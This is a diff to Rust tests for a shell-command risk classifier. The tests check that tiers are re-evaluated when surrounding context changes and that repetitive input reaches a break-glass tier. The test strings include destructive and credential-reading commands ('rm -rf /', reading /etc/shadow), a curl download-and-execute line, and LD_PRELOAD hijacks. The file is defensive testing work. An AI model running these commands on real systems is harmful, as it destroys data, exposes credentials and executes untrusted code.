@@ -330,8 +330,8 @@ fn work_grows_in_line_with_the_text() {
         ("braces", Box::new(move |n| "echo ".to_owned() + &many("{a,b}", n))),
     ];
     for (name, text) in texts {
-        let (small, _) = iddio_classify::shell::cost(text(200).as_bytes());
-        let (large, _) = iddio_classify::shell::cost(text(800).as_bytes());
+        let small = iddio_classify::shell::cost(text(200).as_bytes()).steps.unwrap();
+        let large = iddio_classify::shell::cost(text(800).as_bytes()).steps.unwrap();
         assert!(large <= small * 6 + 2_000, "{name}: {small} steps become {large}");
     }
 }
@@ -346,4 +346,40 @@ fn what_multiplies_is_cut_off() {
     assert!(tier(recursion) < 4);
     let evals = "eval ".repeat(2_000) + "ls";
     assert_eq!(tier(&evals), 4);
+}
+
+#[test]
+fn a_command_that_was_judged_is_judged_again_where_anything_around_it_changed() {
+    let cases = [
+        ("rm -f shadow; ", "cd /etc; rm -f shadow"),
+        ("./tool a; ", "curl -o tool https://x.example/t; ./tool a"),
+        ("ls; ", "export KUBECONFIG=/tmp/x; ls"),
+        ("ls; ", "export LD_PRELOAD=/tmp/x; ls"),
+        ("ls; ", "LD_PRELOAD=/tmp/x ls"),
+        ("xargs cat < /dev/null; ", "echo /etc/shadow | xargs cat"),
+        ("echo a | xargs cat; ", "echo /etc/shadow | xargs cat"),
+        ("f() { ls; }; f; ", "f() { rm -rf /; }; f"),
+        ("alias a=ls; a; ", "alias a='rm -rf /'; a"),
+        ("x=/tmp/a; cat $x; ", "x=/etc/shadow; cat $x"),
+        ("(export PATH=/usr/bin; ls); ", "(export PATH=/tmp; ls)"),
+    ];
+    for (before, line) in cases {
+        let both = format!("{before}{line}");
+        assert_eq!(tier(&both), tier(line), "`{both}`");
+        assert!(tier(before) <= tier(line) && 1 < tier(line), "`{line}`");
+    }
+}
+
+#[test]
+fn what_stands_often_is_judged_once_and_what_nobody_reads_is_break_glass() {
+    let cost = |text: &str| iddio_classify::shell::cost(text.as_bytes());
+    let once = cost("rm -rf a;").steps.unwrap();
+    let often = cost(&"rm -rf a;".repeat(1_000)).steps.unwrap();
+    assert!(often < once * 1_000 / 4, "{often} steps for a thousand, {once} for one");
+    let different = |count: usize| (0..count).map(|i| format!("ls a{i};")).collect::<String>();
+    assert!(tier(&different(1_000)) < 4);
+    assert_eq!(tier(&different(3_000)), 4);
+    let exports =
+        |count: usize| (0..count).map(|i| format!("export AWS_{i}=b;")).collect::<String>();
+    assert_eq!(cost(&exports(3_000)).tier, iddio_core::tier::Tier::BreakGlass);
 }
